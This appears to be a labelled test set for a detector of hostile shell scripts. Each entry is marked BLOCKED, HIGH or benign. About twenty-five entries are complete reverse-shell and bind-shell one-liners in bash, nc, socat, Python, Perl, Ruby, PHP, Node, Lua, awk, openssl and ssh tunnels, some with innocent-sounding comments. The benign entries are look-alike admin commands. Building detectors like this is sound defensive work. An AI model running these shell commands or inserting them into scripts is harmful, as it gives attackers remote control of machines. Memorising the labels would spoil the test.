#@ devtcp_interactive BLOCKED t
#!/bin/bash
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
#@ devtcp_function_args BLOCKED t
#!/bin/bash
connect_back() {
  local host="$1" port="$2"
  /bin/bash -c "bash -i >& /dev/tcp/$host/$port 0>&1"
}
connect_back 198.51.100.3 9001
#@ fifo_nc_loop BLOCKED v
#!/bin/sh
f=/tmp/.p
rm -f "$f"; mkfifo "$f"
cat "$f" | /bin/sh -i 2>&1 | nc 203.0.113.9 443 > "$f"
#@ nc_e_vars BLOCKED t
LHOST=203.0.113.5
LPORT=8443
nc -e /bin/bash "$LHOST" "$LPORT"
#@ ncat_exec_retry BLOCKED t
#!/bin/bash
# keep trying until the listener is up
while true; do
  ncat --exec /bin/sh 192.0.2.44 5555 && break
  sleep 30
done
#@ socat_pty BLOCKED v
#!/bin/bash
TARGET=${1:-203.0.113.20:4242}
socat "tcp-connect:${TARGET}" exec:'bash -li',pty,stderr,setsid,sigint,sane
#@ bind_shell_nc BLOCKED t
#!/bin/bash
# service helper on port 31337
nc -lvnp 31337 -e /bin/bash
#@ bind_shell_socat BLOCKED t
socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash
#@ exec_fd_loop BLOCKED v
#!/bin/bash
exec 5<>/dev/tcp/203.0.113.8/80
cat <&5 | while read -r line; do $line 2>&5 >&5; done
#@ python_c_socket BLOCKED t
python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.1",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])'
#@ perl_e_socket BLOCKED t
perl -e 'use Socket;$i="203.0.113.2";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'
#@ ruby_e_socket BLOCKED v
ruby -rsocket -e 'f=TCPSocket.open("203.0.113.3",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
#@ php_r_fsockopen BLOCKED t
php -r '$sock=fsockopen("203.0.113.4",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
#@ openssl_s_client BLOCKED t
#!/bin/bash
mkfifo /tmp/s
/bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.6:443 > /tmp/s
rm /tmp/s
#@ telnet_two_ports BLOCKED v
telnet 203.0.113.10 8080 | /bin/bash | telnet 203.0.113.10 8081
#@ awk_inet BLOCKED t
awk 'BEGIN {s = "/inet/tcp/0/203.0.113.11/4444"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}' /dev/null
#@ node_e_child BLOCKED t
node -e 'var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"203.0.113.12",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});'
#@ devtcp_sh_c_retry BLOCKED v
#!/bin/sh
for i in 1 2 3 4 5; do
  sh -c 'exec 3<>/dev/tcp/203.0.113.13/4444; sh <&3 >&3 2>&3' && exit 0
  sleep 5
done
#@ env_host_reverse BLOCKED t
#!/bin/bash
# report back to the collector configured in the environment
host="${COLLECTOR_HOST:-203.0.113.14}"
port="${COLLECTOR_PORT:-7000}"
0<&196; exec 196<>/dev/tcp/$host/$port; sh <&196 >&196 2>&196
#@ nohup_background BLOCKED t
nohup bash -c 'bash -i >& /dev/tcp/203.0.113.15/4444 0>&1' >/dev/null 2>&1 &
#@ busybox_nc BLOCKED v
busybox nc 203.0.113.16 4444 -e /bin/sh
#@ lua_e_socket BLOCKED t
lua -e "require('socket');require('os');t=socket.tcp();t:connect('203.0.113.17','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');"
#@ sshd_remote_forward BLOCKED t
#!/bin/bash
# expose a shell through a remote tunnel
ssh -o StrictHostKeyChecking=no -R 2222:localhost:22 -N tunnel@203.0.113.18 &
socat TCP-LISTEN:22222,fork EXEC:'/bin/bash -i'
#@ udp_devudp BLOCKED v
sh -i >& /dev/udp/203.0.113.19/4242 0>&1
#@ generated_devtcp HIGH t generated
#!/bin/bash
bash -i >& /dev/tcp/127.0.0.1/4444 0>&1
#@ port_check_devtcp benign t
#!/bin/bash
# is the database up yet?
for i in $(seq 1 30); do
  if timeout 1 bash -c "echo > /dev/tcp/localhost/5432" 2>/dev/null; then
    echo "postgres is up"; exit 0
  fi
  sleep 1
done
echo "postgres did not start" >&2; exit 1
#@ nc_zv_scan benign t
#!/bin/bash
for port in 22 80 443; do
  nc -zv -w 2 example.com "$port"
done
#@ http_server_local benign v
#!/bin/bash
cd site && python3 -m http.server 8000 --bind 127.0.0.1
#@ socat_forward_port benign t
# forward the local API port to the container
socat TCP-LISTEN:8080,bind=127.0.0.1,fork TCP:127.0.0.1:3000
#@ nc_send_file_local benign t
#!/bin/bash
# send a build log to the local log collector
nc -q 1 localhost 5140 < build.log
#@ bash_c_local_script benign v
#!/bin/bash
bash -c "cd build && make -j2"
#@ python_c_print benign t
python3 -c 'import sys; print(sys.version)'
#@ perl_e_replace benign t
perl -pe 's/foo/bar/g' input.txt > output.txt
#@ openssl_check_cert benign v
#!/bin/bash
echo | openssl s_client -connect example.com:443 -servername example.com 2>/dev/null | openssl x509 -noout -dates
#@ ssh_remote_command benign t
#!/bin/bash
for host in web1 web2; do
  ssh "deploy@$host" 'uptime; df -h /'
done
#@ telnet_smtp_check benign t
#!/bin/bash
# smoke-test the mail relay banner
timeout 5 telnet mail.example.com 25 </dev/null | head -1
#@ awk_sum benign v
awk -F, '{ total += $3 } END { print total }' sales.csv
#@ node_e_json benign t
node -e 'const p=require("./package.json"); console.log(p.version)'
#@ interactive_bash_local benign t
#!/bin/bash
# run the test suite in a login shell so that nvm is loaded
bash -lc 'npm test'
#@ ruby_e_yaml benign v
ruby -ryaml -e 'puts YAML.load_file("config.yml")["version"]'
#@ php_r_version benign t
php -r 'echo PHP_VERSION, PHP_EOL;'
#@ exec_redirect_log benign t
#!/bin/bash
exec > >(tee -a deploy.log) 2>&1
echo "deploying"
#@ ssh_tunnel_db benign v
#!/bin/bash
# reach the staging database through the bastion
ssh -f -N -L 15432:db.internal:5432 bastion.example.com
psql -h localhost -p 15432 -U app -c 'select 1'
#@ nc_listen_receive_file benign t
#!/bin/bash
# receive the dataset from the other laptop
nc -l 9000 > dataset.tar.gz
tar xzf dataset.tar.gz
#@ lua_e_print benign t
lua -e 'print(string.format("%5.2f", 3.14159))'
